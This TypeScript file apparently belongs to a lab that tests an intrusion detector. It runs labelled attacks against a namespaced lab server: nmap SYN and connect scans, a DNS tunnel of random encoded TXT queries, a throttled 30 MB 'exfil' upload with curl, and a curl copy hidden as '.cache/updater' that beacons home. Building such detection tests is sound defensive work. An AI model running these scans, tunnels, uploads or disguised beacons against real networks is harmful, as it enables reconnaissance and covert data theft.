import { copyFileSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { createRandom } from "../../detector/index.js";
import type { LabNetwork } from "./netns.js";
import { curl } from "./office.js";
import { run, sleep } from "./proc.js";
import { PORTS, TUNNEL_ZONE } from "./servers.js";

/**
 * Ground truth of one attack: when it ran, from which office address (each
 * attack has its own, so flow records, which name no process, can be
 * labelled), which executable, and which server ports it touched.
 */
export interface AttackRecord {
  name: AttackName;
  startMs: number;
  endMs: number;
  sourceIp: string;
  processPath: string;
  /** Destination ports, or `[lo, hi]` ranges for scans. */
  destPorts: (number | [number, number])[];
  /** What the tool reported (curl's byte counts, nmap's open ports, queries sent). */
  detail: string;
}

/** The attacks, in the order the lab runs them. */
export const ATTACK_NAMES = [
  "nmap-syn-scan",
  "nmap-connect-scan",
  "dns-tunnel",
  "large-upload",
  "new-process-beacon",
] as const;

/** One attack's name. */
export type AttackName = (typeof ATTACK_NAMES)[number];

/** Ports the scans cover; bounded. */
const SCAN_PORTS: [number, number] = [1, 1024];
/** Probes per second nmap may send. */
const SCAN_RATE = "800";
/** Queries the DNS tunnel sends. */
const TUNNEL_QUERIES = 80;
/** Queries per dig run, one run a second. */
const TUNNEL_BATCH = 10;
/** Size of the exfiltrated upload, bytes. */
export const UPLOAD_BYTES = 30_000_000;
/** The upload's pace (curl --limit-rate): a few seconds, as exfiltration tools throttle. */
const UPLOAD_RATE = "10M";
/** Beacons and the seconds between them. */
const BEACONS = 8;
const BEACON_EVERY_MS = 2000;

/**
 * The attacks, each a real tool run from the office host against the
 * servers host, from its own address (`net.extraIps[i]`, in ATTACK_NAMES order).
 */
export function attacks(net: LabNetwork, dir: string) {
  const ns = net.office.ns;
  const srv = net.servers.ip;
  const ipOf = (name: AttackName) => {
    const ip = net.extraIps[ATTACK_NAMES.indexOf(name)];
    if (ip === undefined) throw new Error(`the lab network has no address for ${name}`);
    return ip;
  };
  const nmap = async (name: AttackName, scan: "-sS" | "-sT"): Promise<AttackRecord> => {
    const sourceIp = ipOf(name);
    const startMs = Date.now();
    const r = await run(
      "nmap",
      [
        scan,
        "-Pn",
        "-n",
        "-p",
        `${SCAN_PORTS[0]}-${SCAN_PORTS[1]}`,
        "--max-rate",
        SCAN_RATE,
        "--max-retries",
        "1",
        "-S",
        sourceIp,
        "-e",
        net.office.ifname,
        "-oG",
        "-",
        srv,
      ],
      { ns, timeoutMs: 120_000 },
    );
    const open = /Ports: (.*)/.exec(r.stdout)?.[1] ?? "";
    return {
      name,
      startMs,
      endMs: Date.now(),
      sourceIp,
      processPath: "/usr/bin/nmap",
      destPorts: [SCAN_PORTS],
      detail: `open: ${open.replace(/\/\/\/?/g, "").trim()}`,
    };
  };
  return {
    "nmap-syn-scan": () => nmap("nmap-syn-scan", "-sS"),
    "nmap-connect-scan": () => nmap("nmap-connect-scan", "-sT"),
    // Many long random labels under one zone, in one dig process (batch mode),
    // as a DNS tunnel client encodes data into query names.
    async "dns-tunnel"(): Promise<AttackRecord> {
      const sourceIp = ipOf("dns-tunnel");
      const rng = createRandom(7);
      const alphabet = "abcdefghijklmnopqrstuvwxyz234567";
      const label = (n: number) =>
        Array.from({ length: n }, () => alphabet[rng.int(alphabet.length)]).join("");
      const lines = Array.from(
        { length: TUNNEL_QUERIES },
        (_, i) =>
          `@${srv} ${label(50 + rng.int(13))}.${label(40 + rng.int(20))}.${i}.${TUNNEL_ZONE} TXT`,
      );
      // Ten queries a second, as a tunnel paces itself; one dig per batch.
      const startMs = Date.now();
      let failed = 0;
      for (let b = 0; b < lines.length; b += TUNNEL_BATCH) {
        const batch = join(dir, `tunnel-${b}.batch`);
        writeFileSync(batch, `${lines.slice(b, b + TUNNEL_BATCH).join("\n")}\n`);
        const r = await run("dig", ["-b", sourceIp, "+tries=1", "+time=1", "+short", "-f", batch], {
          ns,
          timeoutMs: 60_000,
          check: false,
        });
        if (r.code !== 0) failed++;
        await sleep(1000);
      }
      return {
        name: "dns-tunnel",
        startMs,
        endMs: Date.now(),
        sourceIp,
        processPath: "/usr/bin/dig",
        destPorts: [PORTS.dns],
        detail: `${TUNNEL_QUERIES} queries, ${failed} dig runs failed`,
      };
    },
    // Tens of MB out to a port the office never uses.
    async "large-upload"(): Promise<AttackRecord> {
      const sourceIp = ipOf("large-upload");
      const file = join(dir, "exfil.bin");
      writeFileSync(file, Buffer.alloc(UPLOAD_BYTES, "customer records "));
      const r = await curl(ns, `http://${srv}:${PORTS.upload}/drop`, [
        "--interface",
        sourceIp,
        "--limit-rate",
        UPLOAD_RATE,
        "-T",
        file,
      ]);
      if (!r.ok) throw new Error("large-upload: curl -T failed");
      return {
        name: "large-upload",
        startMs: r.startMs,
        endMs: r.endMs,
        sourceIp,
        processPath: r.path,
        destPorts: [PORTS.upload],
        detail: `curl sent ${r.sent} B, received ${r.recv} B`,
      };
    },
    // A copy of curl nobody has seen, hidden under /tmp, calling home every few seconds.
    async "new-process-beacon"(): Promise<AttackRecord> {
      const sourceIp = ipOf("new-process-beacon");
      const hidden = join(dir, ".cache");
      mkdirSync(hidden, { recursive: true });
      const path = join(hidden, "updater");
      copyFileSync("/usr/bin/curl", path);
      const startMs = Date.now();
      let ok = 0;
      for (let i = 0; i < BEACONS; i++) {
        const r = await curl(
          ns,
          `http://${srv}:${PORTS.beacon}/beacon`,
          ["--interface", sourceIp, "-d", `id=lab-host&seq=${i}`],
          path,
        );
        if (r.ok) ok++;
        if (i < BEACONS - 1) await sleep(BEACON_EVERY_MS);
      }
      return {
        name: "new-process-beacon",
        startMs,
        endMs: Date.now(),
        sourceIp,
        processPath: path,
        destPorts: [PORTS.beacon],
        detail: `${ok}/${BEACONS} beacons answered`,
      };
    },
  } satisfies Record<AttackName, () => Promise<AttackRecord>>;
}
